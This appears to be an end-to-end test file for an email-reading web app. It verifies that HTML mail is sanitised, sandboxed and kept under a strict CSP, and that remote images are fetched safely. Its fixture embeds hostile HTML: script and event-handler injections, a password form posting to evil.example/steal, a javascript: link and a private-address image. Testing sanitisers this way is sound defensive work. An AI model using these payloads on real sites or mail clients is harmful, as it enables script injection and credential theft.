import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import path from "node:path";
import { crc32, deflateSync } from "node:zlib";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { axeProblems } from "../support/axe.ts";
import { launchChromium } from "../support/browser.ts";
import { cardsForEveryCohort, screenshots, startPwaGmailStack } from "../support/pwa-gmail-stack.ts";
import { eventually } from "./pipeline-harness.ts";

/**
 * Read the message: a card opens the message itself, fetched on demand from the fake Gmail
 * through the agent and the DeviceHub (kept nowhere), rendered sanitised in a sandboxed frame
 * under the site CSP: no scripts, forms or remote images until asked, hidden text shown as
 * removed, links that say where they go; with its actions and the rest of its thread. "Load
 * images" shows remote images as data: URLs the agent fetched and checked (the site CSP stays
 * `img-src 'self' data: blob:`); the sender's server is a loopback server the agent is told, by
 * the test-only SCOUTS_TEST_IMAGE_ORIGIN, to treat as public; a private address is refused.
 */
let s: Awaited<ReturnType<typeof startPwaGmailStack>>;
let browser: Awaited<ReturnType<typeof launchChromium>>;
let page: Page;
type Delivered = { msgId: string; threadId: string; s: { id: string } };
let reply: Delivered;
let first: Delivered;
const consoleErrors: string[] = [];

/** A real 120×40 PNG (so the browser decodes it) and a 1×1 GIF (a tracking pixel). */
function png(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const out = Buffer.alloc(body.length + 8);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc32(body), body.length + 4);
    return out;
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3, 0x40)]);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: height }, () => row)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]),
    chunk("IHDR", ihdr),
    chunk("IDAT", pixels),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}
const GIF_1X1 = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
let images: Server;
let imageOrigin = "";
let imageHost = "";
const imageRequests: { url: string; headers: IncomingHttpHeaders }[] = [];

const HIDDEN = "HIDDENCANARY42";
const html = () =>
  `<style>p{color:red}</style><script>parent.document.title="pwned"</script>` +
  `<p onclick="parent.document.title='pwned'">Tuesday works for me. The agenda is below.</p>` +
  `<div style="display:none">${HIDDEN}</div>` +
  `<p><img src="${imageOrigin}/chart.png?v=1&amp;w=4" alt="chart"><img src="${imageOrigin}/open.gif" alt="">` +
  `<img src="http://192.168.1.10/secret.png" alt="secret"><img src="x" onerror="parent.document.title='pwned'"></p>` +
  `<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>` +
  `<p><a href="https://agenda.example/plan">See the agenda</a> · <a href="javascript:alert(1)">bad</a></p>`;
const mixed = (from: string, subject: string, inReplyTo: string) =>
  `From: ${from}\r\nTo: me@scouts.test\r\nSubject: ${subject}\r\nDate: Tue, 24 Nov 2026 09:00:00 +0000\r\n` +
  `Message-ID: <reply-${Date.now()}@colleague.example>\r\nIn-Reply-To: ${inReplyTo}\r\nMIME-Version: 1.0\r\n` +
  `Content-Type: multipart/alternative; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n` +
  `Tuesday works for me.\r\n--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html()}\r\n--b1--\r\n`;

beforeAll(async () => {
  images = createServer((req, res) => {
    imageRequests.push({ url: req.url ?? "", headers: req.headers });
    if (req.url?.startsWith("/chart.png"))
      res.writeHead(200, { "content-type": "image/png" }).end(png(120, 40));
    else if (req.url === "/open.gif") res.writeHead(200, { "content-type": "image/gif" }).end(GIF_1X1);
    else res.writeHead(404).end();
  });
  await new Promise<void>((r) => images.listen(0, "127.0.0.1", () => r()));
  const a = images.address();
  if (!a || typeof a === "string") throw new Error("no port");
  imageHost = `127.0.0.1:${a.port}`;
  imageOrigin = `http://${imageHost}`;
  // Test-only: the agent treats this one loopback origin as a public image server.
  s = await startPwaGmailStack("pwa-read", { agentEnv: { SCOUTS_TEST_IMAGE_ORIGIN: imageOrigin } });
  await cardsForEveryCohort(s.local);
  first = (
    await s.deliver({
      from: "Ann Colleague <ann@colleague.example>",
      subject: "Planning meeting next week",
      body: "Can we meet on Tuesday to go through the plan?",
    })
  )[0] as Delivered;
  reply = (
    await s.deliver({
      from: "Bo Builder <bo@colleague.example>",
      subject: "Re: Planning meeting next week",
      body: "",
      raw: mixed(
        "Bo Builder <bo@colleague.example>",
        "Re: Planning meeting next week",
        "<ann@colleague.example>",
      ),
      threadId: first.threadId,
    })
  )[0] as Delivered;
  browser = await launchChromium({ viewport: { width: 390, height: 844 }, touch: true });
  page = await browser.context.newPage();
  page.on("console", (m) => {
    if (m.type() !== "error") return;
    consoleErrors.push(m.text());
    console.error(`browser: ${m.text()}`);
  });
  await page.goto(`${s.origin}/#agent=${encodeURIComponent(s.agentUrl)}`);
  await page.locator(`article[data-id="${reply.s.id}"]`).waitFor({ timeout: 30_000 });
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await s?.stop();
  images?.closeAllConnections();
  await new Promise((r) => (images ? images.close(r) : r(undefined)));
});

const frame = () => page.frameLocator("iframe.message-frame");

describe("read the message (phone, touch, site CSP)", () => {
  it("opens the message sanitised in a sandboxed frame, with its thread", async () => {
    const title = await page.title();
    await page
      .locator(`article[data-id="${reply.s.id}"]`)
      .getByRole("link", { name: /^Read / })
      .tap();
    await page.getByRole("heading", { name: "Re: Planning meeting next week" }).waitFor({ timeout: 30_000 });
    const iframe = page.locator("iframe.message-frame");
    const sandbox = (await iframe.getAttribute("sandbox")) ?? "";
    expect(sandbox.split(/\s+/).sort()).toEqual(["allow-popups", "allow-popups-to-escape-sandbox"]);
    await expect.poll(() => frame().locator("body").textContent()).toContain("Tuesday works for me");
    const body = (await frame().locator("body").innerHTML()) ?? "";
    expect(body).not.toContain(HIDDEN);
    expect(body).not.toMatch(/<script|<form|<input|<button|<style|onclick|onerror|javascript:/i);
    expect(await frame().getByText("hidden content removed").count()).toBe(1);
    expect(await frame().locator("img").count()).toBe(0);
    expect(await frame().getByText(`[image from ${imageHost}: chart]`).count()).toBe(1);
    expect(await frame().getByText("[image from 192.168.1.10: secret]").count()).toBe(1);
    const link = frame().getByRole("link", { name: "See the agenda" });
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await link.getAttribute("target")).toBe("_blank");
    expect(await frame().locator("body").textContent()).toContain("See the agenda (agenda.example)");
    expect(await page.title()).toBe(title);
    await expect
      .poll(() => page.getByRole("note", { name: "What was held back" }).textContent())
      .toMatch(/1 piece of hidden content removed\.3 remote images not loaded/);
    expect(imageRequests).toEqual([]);
    const thread = page.getByRole("list", { name: "Other messages in this conversation" });
    expect(await thread.textContent()).toContain("Can we meet on Tuesday to go through the plan?");
    expect(await thread.textContent()).toContain("Ann Colleague");
    await page.screenshot({ path: path.join(screenshots, "read-message-phone.png"), fullPage: true });
    expect(await axeProblems(page)).toEqual([]);
  });

  it("Load images: fetched and checked by the agent, shown as data: URLs under the site CSP", async () => {
    const before = consoleErrors.length;
    await page.getByRole("button", { name: "Load images" }).tap();
    const notes = page.getByRole("note", { name: "What was held back" });
    await expect
      .poll(() => notes.textContent(), { timeout: 20_000 })
      .toContain("1 image loaded through the agent.");
    const img = frame().locator('img[src^="data:image/png;base64,"]');
    await expect.poll(() => img.count()).toBe(1);
    expect(await img.getAttribute("alt")).toBe("chart");
    await expect.poll(() => img.evaluate((i: HTMLImageElement) => i.complete && i.naturalWidth)).toBe(120);
    expect(await frame().locator("img").count()).toBe(1);
    // The 1×1 GIF was fetched (the agent had to, to know) and is said to be a tracking pixel.
    expect(await notes.textContent()).toContain("1 tracking pixel (1×1) fetched");
    expect(await frame().getByText(`[tracking pixel from ${imageHost}]`).count()).toBe(1);
    // The private address is refused with its reason, beside the message and in place.
    const refused = page.getByRole("list", { name: "Images not loaded" });
    expect(await refused.textContent()).toBe("Not loaded: 192.168.1.10 is a private address");
    expect(
      await frame()
        .getByText("[image from 192.168.1.10 not loaded: 192.168.1.10 is a private address]")
        .count(),
    ).toBe(1);
    // Only the agent reached the image server: its plain user agent, no cookie, no referrer, no origin.
    expect(imageRequests.map((r) => r.url).sort()).toEqual(["/chart.png?v=1&w=4", "/open.gif"]);
    for (const r of imageRequests) {
      expect(r.headers["user-agent"]).toBe("Mozilla/5.0");
      expect(r.headers).not.toHaveProperty("referer");
      expect(r.headers).not.toHaveProperty("cookie");
      expect(r.headers).not.toHaveProperty("origin");
    }
    // Nothing was blocked by the CSP: the page never tried a remote image itself.
    expect(consoleErrors.slice(before).filter((e) => /Refused to load the image|img-src/i.test(e))).toEqual(
      [],
    );
    const csp = await page.evaluate(() =>
      document.querySelector("iframe.message-frame")?.getAttribute("srcdoc"),
    );
    expect(csp).toContain("img-src data:;");
    await page.screenshot({ path: path.join(screenshots, "read-message-images-phone.png"), fullPage: true });
    expect(await axeProblems(page)).toEqual([]);
  });

  it("acts from the reading view: Archive takes it out of the Gmail inbox, Undo puts it back", async () => {
    await page.getByRole("button", { name: "Archive", exact: true }).tap();
    await eventually(
      async () => (s.stack.gmail.labelNames(s.stack.email, reply.msgId).includes("INBOX") ? undefined : true),
      20_000,
      "archived in Gmail",
    );
    await page.getByRole("searchbox").or(page.locator("article").first()).first().waitFor();
    const toast = page.getByRole("status", { name: "Last action" });
    await expect.poll(() => toast.textContent(), { timeout: 20_000 }).toMatch(/^Done: archive/);
    await toast.getByRole("button", { name: "Undo" }).tap();
    await eventually(
      async () => (s.stack.gmail.labelNames(s.stack.email, reply.msgId).includes("INBOX") ? true : undefined),
      20_000,
      "back in the Gmail inbox",
    );
  });

  it("an id that is not this person's suggestion opens nothing", async () => {
    await page.goto(`${s.origin}/#agent=${encodeURIComponent(s.agentUrl)}`);
    await page.evaluate(() => {
      history.pushState({}, "", "/read/p-not-mine");
      dispatchEvent(new PopStateEvent("popstate"));
    });
    await expect
      .poll(() => page.getByRole("alert").textContent(), { timeout: 20_000 })
      .toMatch(/no such suggestion|no suggestion p-not-mine/);
    expect(await page.locator("iframe.message-frame").count()).toBe(0);
  });

  it("desktop: the same message at 1280×900", async () => {
    const desk = await launchChromium({ viewport: { width: 1280, height: 900 } });
    try {
      const p = await desk.context.newPage();
      await p.goto(`${s.origin}/#agent=${encodeURIComponent(s.agentUrl)}`);
      await p.locator(`article[data-id="${first.s.id}"]`).waitFor({ timeout: 30_000 });
      await p
        .locator(`article[data-id="${first.s.id}"]`)
        .getByRole("link", { name: /^Read / })
        .click();
      await p
        .frameLocator("iframe.message-frame")
        .getByText("Can we meet on Tuesday")
        .waitFor({ timeout: 30_000 });
      expect(
        await p.getByRole("list", { name: "Other messages in this conversation" }).textContent(),
      ).toContain("Tuesday works for me");
      // The reading view offers the same proposed action as the card.
      const listed = (
        await s.local<{ items: { id: string; proposal?: { why: string } }[] }>("/suggestions?limit=200")
      ).items.find((x) => x.id === first.s.id);
      expect(listed?.proposal).toBeDefined();
      await p.getByRole("button", { name: /^Approve: / }).waitFor();
      expect(await p.locator(".proposal").textContent()).toContain(listed?.proposal?.why ?? "?");
      await p.screenshot({ path: path.join(screenshots, "read-message-desktop.png"), fullPage: true });
      expect(await axeProblems(p)).toEqual([]);
    } finally {
      await desk.close();
    }
  });
});
